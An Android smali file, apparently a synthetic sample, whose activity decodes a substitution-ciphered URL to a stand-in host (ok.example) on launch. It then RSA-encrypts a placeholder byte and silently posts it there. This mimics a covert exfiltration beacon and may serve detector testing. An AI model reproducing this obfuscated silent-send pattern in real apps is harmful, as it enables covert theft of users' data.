# SPDX-License-Identifier: GPL-3.0-or-later
.class public Lt/Main;
.super Landroid/app/Activity;
.field static final m:Ljava/util/HashMap;

.method public constructor <init>()V
    .registers 7
    move-object/from16 v4, p0
    invoke-direct {v4}, Landroid/app/Activity;-><init>()V
    return-void
.end method

.method static open(Ljava/lang/String;)Ljava/lang/String;
    .registers 14
    move-object/from16 v4, p0
    new-instance v10, Ljava/lang/StringBuilder;
    invoke-direct {v10}, Ljava/lang/StringBuilder;-><init>()V
    move-object v5, v10
    invoke-virtual {v4}, Ljava/lang/String;->toCharArray()[C
    move-result-object v10
    move-object v6, v10
    array-length v10, v6
    move v7, v10
    const/4 v10, 0x0
    move v8, v10
    :l19
    if-ge v8, v7, :l78
    aget-char v10, v6, v8
    move v9, v10
    sget-object v11, Lt/Main;->m:Ljava/util/HashMap;
    invoke-static {v9}, Ljava/lang/Character;->valueOf(C)Ljava/lang/Character;
    move-result-object v12
    invoke-virtual {v11, v12}, Ljava/util/HashMap;->containsKey(Ljava/lang/Object;)Z
    move-result v11
    move-object v10, v5
    if-eqz v11, :l63
    sget-object v11, Lt/Main;->m:Ljava/util/HashMap;
    invoke-static {v9}, Ljava/lang/Character;->valueOf(C)Ljava/lang/Character;
    move-result-object v12
    invoke-virtual {v11, v12}, Ljava/util/HashMap;->get(Ljava/lang/Object;)Ljava/lang/Object;
    move-result-object v11
    check-cast v11, Ljava/lang/Character;
    goto/32 :l68
    :l63
    invoke-static {v9}, Ljava/lang/Character;->valueOf(C)Ljava/lang/Character;
    move-result-object v11
    :l68
    invoke-virtual {v10, v11}, Ljava/lang/StringBuilder;->append(Ljava/lang/Object;)Ljava/lang/StringBuilder;
    move-result-object v10
    add-int/lit8 v8, v8, 0x1
    goto/32 :l19
    :l78
    invoke-virtual {v5}, Ljava/lang/StringBuilder;->toString()Ljava/lang/String;
    move-result-object v10
    return-object v10
.end method

.method public onCreate(Landroid/os/Bundle;)V
    .registers 11
    move-object/from16 v4, p0
    move-object/from16 v5, p1
    :l0
    const-string v7, "izzhl://ga.tbqdhst/b"
    invoke-static {v7}, Lt/Main;->open(Ljava/lang/String;)Ljava/lang/String;
    move-result-object v7
    const-string v8, "a"
    invoke-virtual {v8}, Ljava/lang/String;->getBytes()[B
    move-result-object v8
    invoke-static {v8}, Lt/S;->seal([B)[B
    move-result-object v8
    invoke-static {v7, v8}, Lt/S;->post(Ljava/lang/String;[B)V
    :l16
    goto/32 :l20
    :l19
    move-exception v7
    move-object v6, v7
    :l20
    return-void
    .catch Ljava/lang/Exception; {:l0 .. :l16} :l19
.end method

.method static constructor <clinit>()V
    .registers 11
    new-instance v7, Ljava/util/HashMap;
    invoke-direct {v7}, Ljava/util/HashMap;-><init>()V
    sput-object v7, Lt/Main;->m:Ljava/util/HashMap;
    const-string v7, "abcdefghijklmnopqrstuvwxyz"
    move-object v4, v7
    const-string v7, "qwertyuiopasdfghjklzxcvbnm"
    move-object v5, v7
    const/4 v7, 0x0
    move v6, v7
    :l18
    const/16 v8, 0x1a
    if-ge v6, v8, :l53
    sget-object v7, Lt/Main;->m:Ljava/util/HashMap;
    invoke-virtual {v5, v6}, Ljava/lang/String;->charAt(I)C
    move-result v8
    invoke-static {v8}, Ljava/lang/Character;->valueOf(C)Ljava/lang/Character;
    move-result-object v8
    invoke-virtual {v4, v6}, Ljava/lang/String;->charAt(I)C
    move-result v9
    invoke-static {v9}, Ljava/lang/Character;->valueOf(C)Ljava/lang/Character;
    move-result-object v9
    invoke-virtual {v7, v8, v9}, Ljava/util/HashMap;->put(Ljava/lang/Object;Ljava/lang/Object;)Ljava/lang/Object;
    move-result-object v7
    add-int/lit8 v6, v6, 0x1
    goto/32 :l18
    :l53
    return-void
.end method

.class public Lt/S;
.super Ljava/lang/Object;

.method public constructor <init>()V
    .registers 7
    move-object/from16 v4, p0
    invoke-direct {v4}, Ljava/lang/Object;-><init>()V
    return-void
.end method

.method public static seal([B)[B
    .registers 14
    move-object/from16 v4, p0
    const-string v6, "RSA/ECB/PKCS1Padding"
    invoke-static {v6}, Ljavax/crypto/Cipher;->getInstance(Ljava/lang/String;)Ljavax/crypto/Cipher;
    move-result-object v6
    move-object v5, v6
    const/4 v7, 0x1
    const-string v8, "RSA"
    invoke-static {v8}, Ljava/security/KeyFactory;->getInstance(Ljava/lang/String;)Ljava/security/KeyFactory;
    move-result-object v8
    new-instance v9, Ljava/security/spec/X509EncodedKeySpec;
    const-string v11, "MIGfMA0GCSqGSIb3DQEBAQUAA4GNADCBiQKBgQDUN00pIJw1+cabbz9NMxsDsB/PXe+JXWd5YWrmBpMXk93CZtTj7PZrfOaIibt4OQg9uf+GAQuxTN4Eec9gFYHWg9Q2gu3QMDTqJaH1yvTVfmCLUIbhTg9RGEVIpi9aFLsUrFiFRuBDZzaC4WGlE20DFdYR7kwdKwNRKqO4G/dYKwIDAQAB"
    const/4 v12, 0x0
    invoke-static {v11, v12}, Landroid/util/Base64;->decode(Ljava/lang/String;I)[B
    move-result-object v11
    invoke-direct {v9, v11}, Ljava/security/spec/X509EncodedKeySpec;-><init>([B)V
    invoke-virtual {v8, v9}, Ljava/security/KeyFactory;->generatePublic(Ljava/security/spec/KeySpec;)Ljava/security/PublicKey;
    move-result-object v8
    invoke-virtual {v5, v7, v8}, Ljavax/crypto/Cipher;->init(ILjava/security/Key;)V
    invoke-virtual {v5, v4}, Ljavax/crypto/Cipher;->doFinal([B)[B
    move-result-object v6
    return-object v6
.end method

.method public static post(Ljava/lang/String;[B)V
    .registers 12
    move-object/from16 v4, p0
    move-object/from16 v5, p1
    new-instance v7, Ljava/net/URL;
    invoke-direct {v7, v4}, Ljava/net/URL;-><init>(Ljava/lang/String;)V
    invoke-virtual {v7}, Ljava/net/URL;->openConnection()Ljava/net/URLConnection;
    move-result-object v7
    move-object v6, v7
    invoke-virtual {v6}, Ljava/net/URLConnection;->getOutputStream()Ljava/io/OutputStream;
    move-result-object v7
    invoke-virtual {v7, v5}, Ljava/io/OutputStream;->write([B)V
    return-void
.end method
